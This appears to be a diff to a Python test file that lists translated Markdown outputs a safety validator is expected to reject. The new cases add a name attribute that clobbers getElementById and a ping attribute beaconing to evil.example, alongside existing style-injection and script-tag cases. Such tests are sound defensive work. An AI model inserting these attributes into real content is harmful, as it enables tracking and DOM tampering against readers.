@@ -125,6 +125,13 @@ FAILING: dict[str, list[object]] = {
         # closing quote
         pytest.param("Click the button.", 'Cliquez sur le bouton. {style = "position:fixed"}',
                      id="generic-attribute-spaced"),
+        # helper-112: a name clobbers a script's global as an id does; a ping loads
+        pytest.param("Click ![logo](media/a.png) the button.",
+                     "Cliquez sur ![logo](media/a.png){name=getElementById} le bouton.",
+                     id="generic-attribute-name"),
+        pytest.param("See [the docs](https://learn.microsoft.com/en-us/x).",
+                     "Voir [la doc](https://learn.microsoft.com/fr-fr/x){ping=https://evil.example/t}.",
+                     id="generic-attribute-ping"),
     ],
     "unsafe-element": [
         pytest.param("Text", "<script>alert(1)</script>", id="script"),
